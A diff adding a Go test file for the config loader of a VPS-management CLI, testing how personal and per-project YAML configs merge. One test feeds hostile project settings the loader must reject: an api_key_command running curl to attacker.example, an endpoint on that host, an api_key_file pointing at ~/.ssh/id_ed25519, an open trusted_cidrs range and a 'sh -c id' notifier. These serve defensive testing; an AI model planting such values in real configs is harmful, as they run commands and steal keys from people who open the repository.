@@ -0,0 +1,180 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+func writeFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestProjectConfigLayers(t *testing.T) {
+	t.Setenv("BWH_INSTANCE", "")
+	t.Setenv(NoProjectConfigEnv, "")
+	root := t.TempDir()
+	personal := filepath.Join(root, "home", "config.yaml")
+	writeFile(t, personal, `default_instance: home
+instances:
+  home:
+    api_key: home-api-key-123456789
+    veid: "1"
+  prod:
+    api_key: prod-api-key-123456789
+    veid: "2"
+include:
+  - secrets.yaml
+`)
+	writeFile(t, filepath.Join(root, "home", "secrets.yaml"), `instances:
+  staging:
+    api_key_file: staging.key
+    veid: "3"
+`)
+	writeFile(t, filepath.Join(root, "home", "staging.key"), "staging-api-key-123456789\n")
+	writeFile(t, filepath.Join(root, "repo", "bwh.yaml"), `default_instance: prod
+include:
+  - shared.yaml
+instances:
+  prod:
+    veid: "2"
+    description: production
+    tags: [web]
+  staging:
+    veid: "3"
+`)
+	writeFile(t, filepath.Join(root, "repo", "shared.yaml"), `instances:
+  legacy:
+    veid: "4"
+`)
+	writeFile(t, filepath.Join(root, "repo", "app", "bwh.yaml"), `instances:
+  prod:
+    description: production app
+`)
+	t.Chdir(filepath.Join(root, "repo", "app"))
+
+	manager, err := NewManager(personal)
+	if err != nil {
+		t.Fatalf("NewManager() error = %v", err)
+	}
+
+	names := manager.GetAvailableInstances()
+	slices.Sort(names)
+	if !slices.Equal(names, []string{"home", "legacy", "prod", "staging"}) {
+		t.Errorf("GetAvailableInstances() = %v", names)
+	}
+	if got := manager.GetDefaultInstance(); got != "prod" {
+		t.Errorf("GetDefaultInstance() = %s, want prod from the project config", got)
+	}
+
+	prod, name, err := manager.ResolveInstance("")
+	if err != nil {
+		t.Fatalf("ResolveInstance() error = %v", err)
+	}
+	if name != "prod" || prod.APIKey != "prod-api-key-123456789" || prod.Description != "production app" || !slices.Equal(prod.Tags, []string{"web"}) {
+		t.Errorf("ResolveInstance() = %+v, %s", prod, name)
+	}
+	origins := manager.InstanceOrigins("prod")
+	if len(origins) != 3 || !strings.HasSuffix(origins[0], filepath.Join("app", "bwh.yaml")) || origins[2] != personal {
+		t.Errorf("InstanceOrigins(prod) = %v", origins)
+	}
+
+	// api_key_file is relative to the included file that sets it.
+	staging, _, err := manager.ResolveInstance("staging")
+	if err != nil || staging.APIKey != "staging-api-key-123456789" {
+		t.Errorf("ResolveInstance(staging) = %+v, %v", staging, err)
+	}
+
+	if _, _, err := manager.ResolveInstance("legacy"); err == nil || !strings.Contains(err.Error(), "no API key") {
+		t.Errorf("ResolveInstance(legacy) error = %v, want missing API key", err)
+	}
+	if err := manager.RemoveInstance("legacy"); err == nil || !strings.Contains(err.Error(), "shared.yaml") {
+		t.Errorf("RemoveInstance(legacy) error = %v, want the defining file", err)
+	}
+
+	// Credentials for a project instance go to the personal config only.
+	if err := manager.AddInstance("legacy", &Instance{APIKey: "legacy-api-key-123456789", VeID: "4"}, false); err != nil {
+		t.Fatalf("AddInstance(legacy) error = %v", err)
+	}
+	if legacy, _, err := manager.ResolveInstance("legacy"); err != nil || legacy.APIKey != "legacy-api-key-123456789" {
+		t.Errorf("ResolveInstance(legacy) after add = %+v, %v", legacy, err)
+	}
+	data, err := os.ReadFile(personal)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, leaked := range []string{"staging", "production", "default_instance: prod"} {
+		if strings.Contains(string(data), leaked) {
+			t.Errorf("personal config contains project value %q:\n%s", leaked, data)
+		}
+	}
+}
+
+func TestProjectConfigRejectsUnsafeSettings(t *testing.T) {
+	t.Setenv("BWH_INSTANCE", "")
+	t.Setenv(NoProjectConfigEnv, "")
+	root := t.TempDir()
+	personal := filepath.Join(root, "home", "config.yaml")
+	writeFile(t, personal, `instances:
+  prod:
+    api_key: prod-api-key-123456789
+    veid: "2"
+`)
+	if err := os.MkdirAll(filepath.Join(root, "repo"), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	t.Chdir(filepath.Join(root, "repo"))
+
+	for project, want := range map[string]string{
+		"instances:\n  prod:\n    api_key_command: curl https://attacker.example/steal\n": "instance prod sets api_key_command",
+		"instances:\n  prod:\n    endpoint: https://attacker.example\n":                   "instance prod sets endpoint",
+		"instances:\n  prod:\n    api_key_file: ~/.ssh/id_ed25519\n":                      "instance prod sets api_key_file",
+		"instances:\n  prod:\n    veid: \"666\"\n":                                        "instance prod sets veid 666",
+		"instances:\n  prod:\n    trusted_cidrs: [0.0.0.0/0]\n":                           "instance prod sets trusted_cidrs",
+		"notifiers:\n  ops:\n    type: command\n    command: [sh, -c, id]\n":              "notifiers are only read from the personal config",
+	} {
+		writeFile(t, filepath.Join(root, "repo", "bwh.yaml"), project)
+		if _, err := NewManager(personal); err == nil || !strings.Contains(err.Error(), want) {
+			t.Errorf("NewManager() with project config %q error = %v, want %q", project, err, want)
+		}
+	}
+
+	// Repeating the personal VEID, or giving one for a new instance, is fine.
+	writeFile(t, filepath.Join(root, "repo", "bwh.yaml"), "instances:\n  prod:\n    veid: \"2\"\n  staging:\n    veid: \"3\"\n")
+	if _, err := NewManager(personal); err != nil {
+		t.Errorf("NewManager() with matching VEIDs error = %v", err)
+	}
+
+	// Included files inherit the trust of the file that includes them.
+	writeFile(t, filepath.Join(root, "repo", "bwh.yaml"), "include:\n  - ../shared.yaml\n")
+	writeFile(t, filepath.Join(root, "shared.yaml"), "instances:\n  prod:\n    api_key_env: HOME\n")
+	if _, err := NewManager(personal); err == nil || !strings.Contains(err.Error(), "instance prod sets api_key_env") {
+		t.Errorf("NewManager() with a project include error = %v, want rejection", err)
+	}
+}
+
+func TestProjectConfigDisabled(t *testing.T) {
+	root := t.TempDir()
+	writeFile(t, filepath.Join(root, "bwh.yaml"), `instances:
+  prod:
+    veid: "2"
+`)
+	t.Chdir(root)
+	t.Setenv(NoProjectConfigEnv, "1")
+
+	manager, err := NewManager(filepath.Join(root, "missing", "config.yaml"))
+	if err != nil {
+		t.Fatalf("NewManager() error = %v", err)
+	}
+	if instances := manager.ListInstances(); len(instances) != 0 {
+		t.Errorf("ListInstances() = %v, want none with %s set", instances, NoProjectConfigEnv)
+	}
+}